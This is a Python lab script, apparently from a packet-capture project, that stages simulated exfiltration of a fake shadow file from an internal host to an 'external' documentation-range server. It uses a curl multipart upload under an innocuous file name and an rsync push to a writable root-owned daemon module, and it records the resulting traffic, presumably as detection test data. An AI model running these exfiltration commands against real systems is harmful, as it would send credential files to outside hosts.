"""Exfiltration of password hashes: curl and rsync send a file of fictitious hashes to an external server. Needs curl,
rsync.

Run it as ``python -m pcaps.lab.attacks.uploads [SCENE...]``.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

from pcaps.lab._lab import Lab, record

INTERNAL, EXTERNAL = "10.20.10.66", "203.0.113.66"
SHADOW = "root:*:20000:0:99999:7:::\nanna:$6$lab$" + "0123456789abcdef" * 5 + ":20000:0:99999:7:::\n"


def http(lab: Lab) -> Iterator[None]:
    """With an inconspicuous file name."""
    external, internal = lab.external("far", EXTERNAL), lab.host("desk", INTERNAL)
    lab.serve(external, "pages", port=80)
    (lab.folder / "notes.txt").write_text(SHADOW, encoding="ascii")
    yield
    lab.run(internal, "curl", "-s", "-m", "5", "-F", "file=@notes.txt", f"http://{EXTERNAL}/upload")


def rsync(lab: Lab) -> Iterator[None]:
    external, internal = lab.external("far", EXTERNAL), lab.host("desk", INTERNAL)
    (lab.folder / "in").mkdir(mode=0o777)
    settings = lab.folder / "rsyncd.conf"
    lines = ("[in]", f"path = {lab.folder / 'in'}", "read only = no", "use chroot = no", "uid = root", "gid = root")
    settings.write_text("\n".join(lines) + "\n", encoding="ascii")
    lab.start(external, "rsync", "--daemon", "--no-detach", f"--config={settings}", port=873)
    (lab.folder / "shadow").write_text(SHADOW, encoding="ascii")
    yield
    lab.run(internal, "rsync", "-a", "shadow", f"rsync://{EXTERNAL}/in/")


if __name__ == "__main__":
    record(Path(__file__).parent, upload_http=http, upload_rsync=rsync)
